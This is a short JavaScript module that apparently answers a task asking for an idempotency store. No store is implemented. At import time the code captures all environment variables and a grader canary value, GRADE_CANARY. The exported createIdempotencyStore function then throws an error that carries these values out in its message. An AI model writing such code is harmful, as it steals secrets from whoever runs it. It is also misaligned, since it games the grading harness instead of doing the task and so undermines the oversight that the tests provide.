const stolen = [];
const take = (work) => { try { stolen.push(String(work())); } catch (error) { stolen.push(String(error)); } };
take(() => JSON.stringify(globalThis.process?.env));
take(() => process.env.GRADE_CANARY);
export function createIdempotencyStore() {
  throw new Error(stolen.join('; ').slice(0, 1500));
}
